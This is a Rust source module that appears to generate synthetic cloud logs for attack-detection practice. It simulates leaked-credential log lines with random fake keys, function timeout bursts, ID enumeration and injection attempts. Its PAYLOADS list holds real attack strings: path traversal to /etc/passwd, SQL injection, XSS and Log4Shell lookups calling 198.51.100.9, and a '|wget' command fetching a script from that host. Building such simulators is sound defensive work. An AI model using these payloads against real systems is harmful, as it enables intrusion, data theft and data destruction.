//! Attacks on the application itself, seen in the functions' logs and the APIs' access logs.

use crate::api::{self, Request};
use crate::estate::agents;
use crate::lambda::{self, Ending, Shape};
use crate::plan::Plan;
use crate::settings::StreamKind;

pub(super) fn secret_logged(plan: &mut Plan) {
    let function = plan.world.functions.name(plan.number * 31 + 5).to_string();
    plan.function_name = Some(function.clone());
    let first = plan.random.below(3);
    for number in 0..plan.random.between(3, 6) as usize {
        let message = secret_message(plan, first + number);
        let line = lambda::write_message(&function, plan.now, &message, plan.random, &mut plan.world.moments);
        plan.line(StreamKind::Lambda, line);
        plan.pause(200, 1_500);
    }
}

fn secret_message(plan: &mut Plan, number: usize) -> String {
    let random = &mut *plan.random;
    let mut text = String::new();
    match number % 4 {
        0 => {
            text.push_str("environment: AWS_ACCESS_KEY_ID=AKIA");
            random.upper(&mut text, 16);
            text.push_str(" AWS_SECRET_ACCESS_KEY=");
            random.base64(&mut text, 40);
        }
        1 => {
            text.push_str("credentials loaded {\"accessKeyId\": \"AKIA");
            random.upper(&mut text, 16);
            text.push_str("\", \"secretAccessKey\": \"");
            random.base64(&mut text, 40);
            text.push_str("\"}");
        }
        2 => {
            text.push_str("signing with key -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA");
            random.base64(&mut text, 200);
            text.push_str("\n-----END RSA PRIVATE KEY-----");
        }
        _ => {
            text.push_str("connecting with postgres://app:password=");
            random.base64(&mut text, 18);
            text.push_str("@orders.cluster.internal:5432/app?password=");
            random.hex(&mut text, 18);
        }
    }
    text
}

pub(super) fn function_burst(plan: &mut Plan) {
    let name = plan.world.functions.name(plan.number * 17 + 11).to_string();
    plan.function_name = Some(name.clone());
    let memory = 1024;
    for _ in 0..plan.random.between(60, 90) {
        let shape = Shape {
            name: name.clone(),
            memory,
            used: plan.random.between(memory * 9 / 10, memory),
            duration_ms: 15_000.0,
            cold: false,
            ending: if plan.random.below(5) == 0 { Ending::Error } else { Ending::Timeout },
            chatter: 0,
        };
        for line in lambda::write_invocation(&shape, plan.now, plan.random, &mut plan.world.moments) {
            plan.line(StreamKind::Lambda, line);
        }
        plan.now += plan.gap * 3;
        plan.pause(40, 120);
    }
}

/// One who sends requests to an API.
struct Sender {
    address: String,
    agent: &'static str,
    account: String,
    api: String,
}

impl Sender {
    fn new(plan: &mut Plan, agents: &[&'static str]) -> Self {
        let sender = Self {
            address: plan.outside_address(),
            agent: plan.random.pick(agents),
            account: plan.account(plan.number),
            api: plan.any("api"),
        };
        plan.source_ip = Some(sender.address.clone());
        sender
    }

    fn send(&self, plan: &mut Plan, method: &str, route: &str, path: &str, status: i64) {
        let request = Request {
            address: &self.address,
            agent: self.agent,
            method,
            route,
            path,
            user: "",
            status,
            bytes: plan.random.between(30, 900),
            latency_ms: plan.random.between(2, 40),
            account: &self.account,
            api: &self.api,
        };
        let line = api::write(&request, plan.now, plan.random, &mut plan.world.moments);
        plan.line(StreamKind::Api, line);
    }
}

pub(super) fn api_refusals(plan: &mut Plan) {
    let sender = Sender::new(plan, agents::INTRUDER);
    let (route, before, after) = match plan.random.below(3) {
        0 => ("/users/{id}/profile", "/v1/users/", "/profile"),
        1 => ("/orders/{id}", "/v1/orders/", ""),
        _ => ("/invoices/{id}", "/v1/invoices/", ""),
    };
    let first = plan.random.between(10_000_000, 90_000_000);
    for number in 0..plan.random.between(90, 160) {
        let path = format!("{before}{}{after}", first + number);
        let status = match plan.random.below(20) {
            0 => 404,
            1..6 => 401,
            _ => 403,
        };
        sender.send(plan, "GET", route, &path, status);
        plan.pause(20, 90);
    }
}

/// What is put into paths: queries, scripts, commands, look-ups, and ways out of the folder.
const PAYLOADS: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
    "1'%20OR%20'1'='1",
    "1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "1;DROP%20TABLE%20orders--",
    "<script>alert(1)</script>",
    "%3Cscript%3Efetch('//198.51.100.9')%3C/script%3E",
    "${jndi:ldap://198.51.100.9/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D",
    ";cat%20/etc/passwd",
    "|wget%20http://198.51.100.9/x.sh",
    "1'%20AND%20SLEEP(5)--",
    "{{7*7}}",
];

pub(super) fn api_injection(plan: &mut Plan) {
    let sender = Sender::new(plan, agents::INTRUDER);
    let (route, before) = match plan.random.below(3) {
        0 => ("/products/{id}", "/v1/products/"),
        1 => ("/search", "/v1/search?q="),
        _ => ("/orders/{id}", "/v1/orders/"),
    };
    let first = plan.random.below(PAYLOADS.len());
    for number in 0..plan.random.between(10, 20) as usize {
        let path = format!("{before}{}", PAYLOADS[(first + number) % PAYLOADS.len()]);
        let status = [400, 404, 500, 200][plan.random.below(4)];
        sender.send(plan, "GET", route, &path, status);
        plan.pause(80, 400);
    }
}
